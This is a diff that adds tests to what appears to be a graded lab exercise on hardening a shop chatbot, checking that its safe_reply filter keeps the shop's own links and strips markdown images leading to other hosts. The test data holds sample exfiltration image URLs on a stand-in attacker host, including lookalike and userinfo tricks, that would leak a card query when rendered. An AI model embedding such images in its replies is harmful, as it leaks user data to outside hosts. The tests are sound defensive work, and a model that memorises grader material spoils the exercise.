@@ -65,6 +65,34 @@ def test_returns_text(exercise):
     )
 
 
+def test_keeps_the_shops_own_links_and_images(exercise):
+    """safe_reply keeps links and images on example.com and its subdomains as they are"""
+    for reply in ("Reset it at [the help centre](https://help.example.com/reset).",
+                  "The size chart: ![size chart](https://cdn.example.com/size-chart.png)",
+                  "The form is at [returns](https://www.example.com/returns).",
+                  "Gift cards never expire."):
+        shown = exercise.safe_reply(reply)
+        assert shown == reply, (
+            f"safe_reply({reply!r}) returned {shown!r}; a reply whose links all lead to the "
+            "shop's own sites should reach the customer unchanged: stripping every link makes "
+            "the bot useless."
+        )
+
+
+def test_removes_images_that_carry_data_away(exercise):
+    """safe_reply removes an image whose URL leads to another host (lookalikes included)"""
+    for url in ("https://evil.example/p.png?q=my%20card", "https://example.com.evil.example/s.png",
+                "https://example.com@evil.example/c.png"):
+        reply = f"Shipping takes 3 days. ![logo]({url})"
+        shown = exercise.safe_reply(reply)
+        assert isinstance(shown, str) and url not in shown, (
+            f"safe_reply({reply!r}) returned {shown!r}: the chat window would fetch {url} "
+            "the moment it renders the answer, sending the query string to that host. Keep an "
+            "image only when urllib.parse.urlsplit(url).hostname is example.com or ends with "
+            "'.example.com'."
+        )
+
+
 def test_attacks_blocked(exercise, lab):
     """Blocks the attacks: no exfiltration, phishing or hijack (held-out attacks included)"""
     lab.check_attacks(_feature(exercise, lab))
